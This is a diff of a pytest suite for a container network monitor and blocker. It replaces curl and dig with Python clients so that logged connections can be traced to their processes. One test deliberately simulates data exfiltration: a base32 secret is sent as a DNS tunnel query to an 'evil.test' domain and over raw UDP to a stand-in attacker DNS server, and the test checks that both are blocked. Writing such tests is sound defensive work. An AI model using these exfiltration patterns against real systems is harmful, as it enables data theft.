@@ -16,8 +16,6 @@ then execs it, so each row's process is checked against the real pid.
 from __future__ import annotations
 
 import shlex
-import shutil
-import subprocess
 import sys
 from pathlib import Path
 
@@ -29,13 +27,8 @@ from netns import DNS_NAME, HTTP_PORT, OTHER_V4, OTHER_V6, V4, V6
 pytestmark = [pytest.mark.root, pytest.mark.netns, pytest.mark.slow]
 
 POLICY = "allowed:\n  domains: [www.example.test, \"*.cdn.example.test\"]\n"
-DIG = ["dig", "+short", "+tries=1", "+time=1"]
 UDP_PORT = 9999
 PYTHON = Path(sys.executable)
-
-
-def exe(program: str) -> str:
-    return str(Path(shutil.which(program)).resolve())
 
 
 def announced(name: str, argv: list[str]) -> list[str]:
@@ -43,10 +36,57 @@ def announced(name: str, argv: list[str]) -> list[str]:
     return ["sh", "-c", f'echo {name} $$; exec "$@"', "sh", *argv]
 
 
-def curl(name: str, url: str, *options: str) -> list[str]:
-    """curl printing "<name>= <http code> <connect seconds> <total seconds>"."""
-    return ["curl", "-s", "-o", "/dev/null", "--max-time", "5", *options,
-            "-w", f"{name}= %{{http_code}} %{{time_connect}} %{{time_total}}\\n", url]
+# Clients that stay alive a moment after their exchange: the recorder reads a
+# process's executable from /proc when it first sees it, and curl or dig can be
+# gone by then on a busy machine (README: short-lived processes).
+HTTP_GET = """
+import http.client, socket, sys, time
+name, host, port, family = sys.argv[1:]
+started = time.monotonic()
+info = socket.getaddrinfo(host, int(port), {"4": socket.AF_INET, "6": socket.AF_INET6}[family], socket.SOCK_STREAM)
+s = socket.socket(*info[0][:3])
+s.settimeout(5)
+resolved = time.monotonic()
+s.connect(info[0][4])
+connected = time.monotonic()
+conn = http.client.HTTPConnection(host, int(port))
+conn.sock = s
+conn.request("GET", "/")
+response = conn.getresponse()
+response.read()                  # all of it: closing with unread data would reset the connection
+status = response.status
+conn.close()
+print(f"{name}= {status} {connected - resolved:.6f} {connected - started:.6f}", flush=True)
+time.sleep(0.2)
+"""
+DNS_QUERY = """
+import socket, struct, sys, time
+name, server, qname = sys.argv[1:]
+labels = b"".join(bytes([len(label)]) + label.encode() for label in qname.split("."))
+query = struct.pack(">6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 1, 1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.connect((server, 53))          # connected UDP, as glibc's resolver and dig use it
+s.send(query)
+s.settimeout(5)
+rcode = s.recv(512)[3] & 0xF
+print(f"{name}=", {0: "NOERROR", 3: "NXDOMAIN", 5: "REFUSED"}.get(rcode, rcode), flush=True)
+time.sleep(0.2)
+"""
+
+
+def python_processes(pids: dict[str, int], cgroup: str) -> dict[str, tuple]:
+    """{name: process_of() of the rows made by the announced Python client of that name, in cgroup}."""
+    return {name: (pid, PYTHON.name, str(PYTHON.resolve()), cgroup) for name, pid in pids.items()}
+
+
+def http_get(name: str, host: str, family: str = "4") -> list[str]:
+    """Resolve host (glibc), connect, GET /: prints "<name>= <status> <connect s> <resolve+connect s>"."""
+    return [str(PYTHON), "-c", HTTP_GET, name, host, str(HTTP_PORT), family]
+
+
+def dns_query(name: str, qname: str) -> list[str]:
+    """An A query to dnsmasq on a connected UDP socket: prints "<name>= <rcode name>"."""
+    return [str(PYTHON), "-c", DNS_QUERY, name, V4[1], qname]
 
 
 RAW_ATTEMPT = """
@@ -76,12 +116,6 @@ def raw_attempt(name: str, proto: str, host: str, port: int, payload: str = "") 
 def in_container(container, name: str, argv: list[str]) -> str:
     """A shell command running argv in the container, announced as name."""
     return shlex.join(container.cmd(announced(name, argv)))
-
-
-def dig_status(container, name: str, qname: str) -> str:
-    """dig in the container, announced as name, printing "<name>= <status>" (NOERROR, NXDOMAIN, ...)."""
-    return (in_container(container, name, ["dig", "+tries=1", "+time=1", qname])
-            + f" | sed -nE 's/.*status: ([A-Z]+).*/{name}= \\1/p; /^{name} [0-9]+$/p'")
 
 
 def parse_output(stdout: str) -> tuple[dict[str, int], dict[str, list[str]]]:
@@ -122,31 +156,31 @@ def container_cgroup(lab, container) -> str:
 
 @pytest.mark.parametrize("where", ["uplink", "container veth"])
 def test_container_connections_name_their_process(lab, container, tmp_path, where):
-    """TCP (IPv4, IPv6), connected UDP (dig) and unconnected UDP (Python's sendto) from
+    """TCP (IPv4, IPv6), connected UDP (a DNS query) and unconnected UDP (sendto) from
     the container: each conn.log row names the container's process and cgroup, with TC
     on the client's uplink (the container's packets leave through it: egress) or on the
     container's veth end in the client namespace (they arrive there: ingress)."""
     sendto = (f"import socket, time; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
               f"s.sendto(b'x' * 9, ('{V4[1]}', {UDP_PORT})); time.sleep(0.2)")
     script = "; ".join([
-        in_container(container, "curl4", curl("curl4", f"http://{V4[1]}:{HTTP_PORT}/")),
-        in_container(container, "curl6", curl("curl6", f"http://[{V6[1]}]:{HTTP_PORT}/")),
-        in_container(container, "dig", [*DIG, DNS_NAME]),
+        in_container(container, "http4", http_get("http4", V4[1])),
+        in_container(container, "http6", http_get("http6", V6[1], "6")),
+        in_container(container, "dns", dns_query("dns", DNS_NAME)),
         in_container(container, "sendto", [str(PYTHON), "-c", sendto]),
     ])
     out = tmp_path / "logs"
     r = lab.record(out, ["sh", "-c", script], iface=container.host_if if where == "container veth" else None)
     assert r.returncode == 0, r.stderr
     pids, results = parse_output(r.stdout)
-    assert results["curl4"][0] == results["curl6"][0] == "200", r.stdout
-    assert V4[1] in r.stdout.split(), f"dig got no answer: {r.stdout}"
+    assert results["http4"][0] == results["http6"][0] == "200", r.stdout
+    assert results["dns"] == ["NOERROR"], r.stdout
 
-    cgroup = container_cgroup(lab, container)
+    ran = python_processes(pids, container_cgroup(lab, container))
     expected = {
-        ("tcp", container.v4, V4[1], HTTP_PORT): (pids["curl4"], "curl", exe("curl"), cgroup),
-        ("tcp", container.v6, V6[1], HTTP_PORT): (pids["curl6"], "curl", exe("curl"), cgroup),
-        ("udp", container.v4, V4[1], 53): (pids["dig"], "dig", exe("dig"), cgroup),
-        ("udp", container.v4, V4[1], UDP_PORT): (pids["sendto"], PYTHON.name, str(PYTHON.resolve()), cgroup),
+        ("tcp", container.v4, V4[1], HTTP_PORT): ran["http4"],
+        ("tcp", container.v6, V6[1], HTTP_PORT): ran["http6"],
+        ("udp", container.v4, V4[1], 53): ran["dns"],
+        ("udp", container.v4, V4[1], UDP_PORT): ran["sendto"],
     }
     conns = [c for c in rows(out, "conn")
              if c["id.orig_h"] in (container.v4, container.v6) and c["proto"] in ("tcp", "udp")]
@@ -157,8 +191,8 @@ def test_container_connections_name_their_process(lab, container, tmp_path, wher
     dns = rows(out, "dns")
     assert [(d["query"], d["qtype_name"], d["answers"], d["id.orig_h"]) for d in dns] == \
         [(DNS_NAME, "A", [V4[1]], container.v4)]
-    dig_conn = next(c for c in conns if c["id.resp_p"] == 53)
-    assert dns[0]["uid"] == dig_conn["uid"]
+    dns_conn = next(c for c in conns if c["id.resp_p"] == 53)
+    assert dns[0]["uid"] == dns_conn["uid"]
 
 
 def test_container_blocking(lab, container, tmp_path, policy):
@@ -169,13 +203,13 @@ def test_container_blocking(lab, container, tmp_path, policy):
     sink = lab.udp_sink(OTHER_V4, 53)
     secret = "MZXW6YTBOI"     # base32 of the "stolen" data, as tunnels encode it
     script = "; ".join([
-        in_container(container, "allowed", curl("allowed", f"http://{DNS_NAME}:{HTTP_PORT}/", "-4")),
-        in_container(container, "allowed6", curl("allowed6", f"http://{DNS_NAME}:{HTTP_PORT}/", "-6")),
+        in_container(container, "allowed", http_get("allowed", DNS_NAME, "4")),
+        in_container(container, "allowed6", http_get("allowed6", DNS_NAME, "6")),
         in_container(container, "raw", raw_attempt("raw", "tcp", OTHER_V4, HTTP_PORT)),
         in_container(container, "raw6", raw_attempt("raw6", "tcp", OTHER_V6, HTTP_PORT)),
         in_container(container, "direct", raw_attempt("direct", "udp", OTHER_V4, 53, secret)),
-        dig_status(container, "unlisted", "evil.example.test"),
-        dig_status(container, "tunnel", f"{secret}.t.evil.test"),
+        in_container(container, "unlisted", dns_query("unlisted", "evil.example.test")),
+        in_container(container, "tunnel", dns_query("tunnel", f"{secret}.t.evil.test")),
     ])
     out = tmp_path / "logs"
     r = lab.record(out, ["sh", "-c", script], "--block", "--policy", str(policy), "--resolver", V4[1])
@@ -193,28 +227,25 @@ def test_container_blocking(lab, container, tmp_path, policy):
     assert results["unlisted"] == results["tunnel"] == ["NXDOMAIN"], "unlisted names are answered NXDOMAIN at TC"
     assert sink.stop() == [], "the attacker's DNS server received tunnel data"
 
-    cgroup = container_cgroup(lab, container)
-    curl_of = lambda name: (pids[name], "curl", exe("curl"), cgroup)                          # noqa: E731
-    dig_of = lambda name: (pids[name], "dig", exe("dig"), cgroup)                             # noqa: E731
-    python_of = lambda name: (pids[name], PYTHON.name, str(PYTHON.resolve()), cgroup)         # noqa: E731
+    ran = python_processes(pids, container_cgroup(lab, container))
     notices = rows(out, "notice")
     assert sorted((n["note"], n["proto"], n["id.resp_h"], n["id.resp_p"], n["sub"], process_of(n))
                   for n in notices) == sorted([
-        ("CicdAudit::Blocked_Connection", "tcp", OTHER_V4, HTTP_PORT, None, python_of("raw")),
-        ("CicdAudit::Blocked_Connection", "tcp", OTHER_V6, HTTP_PORT, None, python_of("raw6")),
-        ("CicdAudit::Blocked_Connection", "udp", OTHER_V4, 53, None, python_of("direct")),
-        ("CicdAudit::Blocked_DNS_Query", "udp", V4[1], 53, "evil.example.test", dig_of("unlisted")),
-        ("CicdAudit::Blocked_DNS_Query", "udp", V4[1], 53, f"{secret.lower()}.t.evil.test", dig_of("tunnel")),
+        ("CicdAudit::Blocked_Connection", "tcp", OTHER_V4, HTTP_PORT, None, ran["raw"]),
+        ("CicdAudit::Blocked_Connection", "tcp", OTHER_V6, HTTP_PORT, None, ran["raw6"]),
+        ("CicdAudit::Blocked_Connection", "udp", OTHER_V4, 53, None, ran["direct"]),
+        ("CicdAudit::Blocked_DNS_Query", "udp", V4[1], 53, "evil.example.test", ran["unlisted"]),
+        ("CicdAudit::Blocked_DNS_Query", "udp", V4[1], 53, f"{secret.lower()}.t.evil.test", ran["tunnel"]),
     ])
 
     # The allowed connections, and the lookups (glibc, connected UDP) that let them through.
     conns = [c for c in rows(out, "conn") if c["id.orig_h"] in (container.v4, container.v6)]
     web = [c for c in conns if c["id.resp_p"] == HTTP_PORT and c["id.resp_h"] in (V4[1], V6[1])]
     assert sorted((c["id.resp_h"], c["conn_state"], c["blocked"], process_of(c)) for c in web) == sorted([
-        (V4[1], "SF", False, curl_of("allowed")), (V6[1], "SF", False, curl_of("allowed6"))])
+        (V4[1], "SF", False, ran["allowed"]), (V6[1], "SF", False, ran["allowed6"])])
     lookups = {d["uid"] for d in rows(out, "dns") if d["query"] == DNS_NAME}
     lookup_conns = [c for c in conns if c["uid"] in lookups]
-    assert sorted(process_of(c) for c in lookup_conns) == sorted([curl_of("allowed"), curl_of("allowed6")])
+    assert sorted(process_of(c) for c in lookup_conns) == sorted([ran["allowed"], ran["allowed6"]])
 
 
 def test_a_reconnected_udp_socket_files_each_destination(lab, container, tmp_path):
@@ -230,10 +261,10 @@ def test_a_reconnected_udp_socket_files_each_destination(lab, container, tmp_pat
     r = lab.record(out, ["sh", "-c", in_container(container, "reconnect", [str(PYTHON), "-c", reconnect])])
     assert r.returncode == 0, r.stderr
     pids, _ = parse_output(r.stdout)
-    cgroup = container_cgroup(lab, container)
+    ran = python_processes(pids, container_cgroup(lab, container))
     rows_by_port = {c["id.resp_p"]: c for c in rows(out, "conn") if c["id.orig_h"] == container.v4}
     assert sorted(rows_by_port) == [UDP_PORT, UDP_PORT + 1]
     for port, conn in rows_by_port.items():
         assert conn["orig_pkts"] == 2
-        assert process_of(conn) == (pids["reconnect"], PYTHON.name, str(PYTHON.resolve()), cgroup), port
+        assert process_of(conn) == ran["reconnect"], port
     assert [sink.stop() for sink in sinks] == [[5, 5], [5, 5]]
